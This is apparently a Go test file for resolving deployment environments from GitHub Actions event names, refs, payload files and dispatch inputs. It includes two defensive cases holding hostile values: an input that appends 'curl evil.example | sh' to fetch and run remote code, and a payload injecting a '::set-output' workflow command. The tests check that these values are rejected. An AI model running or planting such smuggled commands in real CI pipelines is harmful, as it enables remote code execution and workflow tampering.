package environment

import (
	"strings"
	"testing"
)

func TestResolve(t *testing.T) {
	custom, err := Load("testdata/pipeline.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const events = "testdata/events/"
	tests := []struct {
		name    string
		config  Config
		trigger Trigger
		want    Name
		wantErr []string
	}{
		{"pull request payload", DefaultConfig(),
			Trigger{EventName: "pull_request", Ref: "refs/pull/42/merge", EventPath: events + "pull_request.json"}, Preview, nil},
		{"push to main payload", DefaultConfig(),
			Trigger{EventName: "push", Ref: "refs/heads/main", EventPath: events + "push-main.json"}, Test, nil},
		{"push to main, ref only in payload", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "push-main.json"}, Test, nil},
		{"push to a feature branch", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "push-feature.json"}, "", []string{"no environment for event \"push\" on ref \"refs/heads/feature/orders\"", "resolve.rules"}},
		{"dispatch input from payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-staging.json"}, Staging, nil},
		{"dispatch input value wins over payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-staging.json", Input: "prod"}, Prod, nil},
		{"dispatch input without payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", Input: "staging"}, Staging, nil},
		{"dispatch without input falls back to rules", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main"}, "", []string{"no environment for event \"workflow_dispatch\"", `pass the "environment" input`}},
		{"hostile dispatch payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-hostile.json"}, "",
			[]string{`unknown environment "prod\n::set-output`, "valid environments are"}},
		{"hostile input", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Input: "prod && curl evil.example | sh"}, "", []string{"unknown environment", "valid environments"}},
		{"explicit input on a push", DefaultConfig(),
			Trigger{EventName: "push", Ref: "refs/heads/feature/x", Input: "preview"}, Preview, nil},
		{"pull request title cannot choose", DefaultConfig(),
			Trigger{EventName: "pull_request", Ref: "refs/pull/42/merge", EventPath: events + "pull_request.json"}, Preview, nil},
		{"no event name", DefaultConfig(), Trigger{Ref: "refs/heads/main"}, "", []string{"no GitHub event name"}},
		{"missing payload file", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "nope.json"}, "", []string{"nope.json"}},
		{"payload not JSON", DefaultConfig(),
			Trigger{EventName: "push", EventPath: "testdata/pipeline.yaml"}, "", []string{"read GitHub event"}},
		{"zero config uses default rules", Config{},
			Trigger{EventName: "pull_request", Ref: "refs/pull/1/merge"}, Preview, nil},
		{"custom dispatch input name", custom,
			Trigger{EventName: "workflow_dispatch", EventPath: events + "workflow_dispatch-staging.json"}, "", []string{`pass the "target" input`}},
		{"custom release rule", custom,
			Trigger{EventName: "push", Ref: "refs/heads/release/2026-11"}, Staging, nil},
		{"custom main rule", custom,
			Trigger{EventName: "push", Ref: "refs/heads/main"}, Test, nil},
		{"unmatched event", custom,
			Trigger{EventName: "schedule", Ref: "refs/heads/main"}, "", []string{`event "schedule"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.config.Resolve(tt.trigger)
			if tt.wantErr != nil {
				if err == nil {
					t.Fatalf("Resolve = %+v, want an error", got)
				}
				for _, w := range tt.wantErr {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("error %q does not contain %q", err, w)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got.Name != tt.want || got.Why == "" {
				t.Errorf("Resolve = %+v, want %s", got, tt.want)
			}
		})
	}
}
